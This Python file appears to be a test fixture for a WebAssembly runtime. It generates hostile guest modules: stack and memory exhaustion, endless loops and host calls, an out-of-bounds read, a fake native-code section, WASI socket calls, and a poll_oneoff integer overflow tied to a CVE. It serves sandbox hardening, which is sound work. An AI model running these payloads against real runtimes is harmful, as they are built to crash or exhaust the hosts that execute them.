"""Modules that attack the node they run on, assembled here: the ten attacks that are known to work on a plain embedding of the engine, and some more.

Each is a function that gives the module's bytes. What must come of it is said in attacks.py.
"""
import os
import sys

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "guests"))
import wasm_build as wasm  # noqa: E402

I32, I64 = wasm.I32, wasm.I64
CALL, DROP, LOOP, BRANCH, END, EMPTY = 0x10, 0x1A, 0x03, 0x0C, 0x0B, 0x40
LIVE_LOCALS = 1500  # kept over a call: a frame of 12,000 bytes, three guard pages of the usual size
PAGE = 65536
WASI = "wasi_snapshot_preview1"


def signed_leb(n):
    out = bytearray()
    while True:
        byte, n = n & 0x7F, n >> 7
        if (n == 0 and not byte & 0x40) or (n == -1 and byte & 0x40):
            return bytes(out + bytes([byte]))
        out.append(byte | 0x80)


def const(n):
    """i32.const, of a number as it is written: 0xFFFFFFFF is -1."""
    return b"\x41" + signed_leb(n - (1 << 32) if n >= 1 << 31 else n)


def command(code, imports=(), pages=1, local_groups=(), types=()):
    """A command with a memory; function number len(imports) is _start, of type 0."""
    return wasm.module(types=[wasm.function_type(), *types], imports=imports, functions=[0], memories=[b"\0" + wasm.leb(pages)],
                       exports=[wasm.export("_start", 0, len(imports)), wasm.export("memory", 2, 0)],
                       codes=[wasm.body(code, local_groups)])


def native_code():
    """Bytecode with a section that some engines take for native code of theirs; here bytes of no meaning (see also native.wasm)."""
    return wasm.returns(1, tail=wasm.custom("wasmedge", b"\x7fELF" + b"\xcc" * 4096))


def too_many_locals():
    return command(b"", local_groups=[(50_000_000, I64)])


def large_frames():
    """Recursion in which each frame is larger than a guard page, and all of it is in use."""
    code = bytearray()
    for i in range(LIVE_LOCALS):
        code += const(8 * i) + b"\x29\x03\x00" + b"\x21" + wasm.leb(i)
    code += bytes([CALL, 0])
    for i in range(LIVE_LOCALS):
        code += const(8 * i) + b"\x20" + wasm.leb(i) + b"\x37\x03\x00"
    return command(code, local_groups=[(LIVE_LOCALS, I64)])


def recursion():
    return command([CALL, 0])


def recursion_that_keeps():
    """As recursion, with something to do after the call, so that no compiler makes a loop of it."""
    return command(const(0) + const(0) + b"\x28\x02\x00" + const(1) + b"\x6a\x36\x02\x00" + bytes([CALL, 0]) +
                   const(0) + const(0) + b"\x28\x02\x00" + const(1) + b"\x6b\x36\x02\x00")


def out_of_bounds():
    return command(const(0x7FFFFFFF) + bytes([0x28, 2, 0, DROP]))


def large_table():
    return wasm.module(types=[wasm.function_type()], functions=[0], tables=[b"\x70\0" + wasm.leb(1_000_000_000)],
                       exports=[wasm.export("_start", 0, 0)], codes=[wasm.body(b"")])


def table_grows():
    """grow() -> i32: what table.grow by a thousand million answers."""
    return wasm.module(types=[wasm.function_type((), (I32,))], functions=[0], tables=[b"\x70\0\1"], exports=[wasm.export("grow", 0, 0)],
                       codes=[wasm.body(b"\xd0\x70" + const(1_000_000_000) + b"\xfc\x0f\x00")])


def endless_loop():
    return command([LOOP, EMPTY, BRANCH, 0, END])


def endless_fill():
    """memory.fill of 100 MiB, again and again."""
    return command(bytes([LOOP, EMPTY]) + const(0) + const(1) + const(1600 * PAGE) + b"\xfc\x0b\x00" + bytes([BRANCH, 0, END]), pages=1600)


def endless_host_calls():
    """sched_yield for ever."""
    return command(bytes([LOOP, EMPTY, CALL, 0, DROP, BRANCH, 0, END]), imports=[wasm.import_function(WASI, "sched_yield", 1)],
                   types=[wasm.function_type((), (I32,))])


def exits_with(call, field, params):
    """Calls a WASI function and exits with what it answers."""
    types = [wasm.function_type(params, (I32,)), wasm.function_type((I32,))]
    imports = [wasm.import_function(WASI, field, 1), wasm.import_function(WASI, "proc_exit", 2)]
    return command(call + bytes([CALL, 0, CALL, 1]), imports=imports, types=types)


def poll_overflow():
    """0x10000001 subscriptions of 48 bytes: the product is 48 in 32 bits (CVE-2025-69261)."""
    return exits_with(const(0) + const(1024) + const(0x10000001) + const(4096), "poll_oneoff", (I32,) * 4)


def socket_import():
    return exits_with(const(1) + const(1) + const(64), "sock_open", (I32,) * 3)


def socket_accept():
    return exits_with(const(3) + const(0) + const(64), "sock_accept", (I32,) * 3)


def hard_to_compile():
    """One function with thousands of blocks and a branch that may go to any of them."""
    blocks = 2000
    code = bytearray()
    for _ in range(blocks):
        code += bytes([0x02, EMPTY])
    code += const(0) + b"\x0e" + wasm.leb(blocks - 1) + b"".join(wasm.leb(i) for i in range(blocks))
    for i in range(blocks):
        code += bytes([END]) + const(0) + const(i) + b"\x36\x02\x00"
    return command(code)
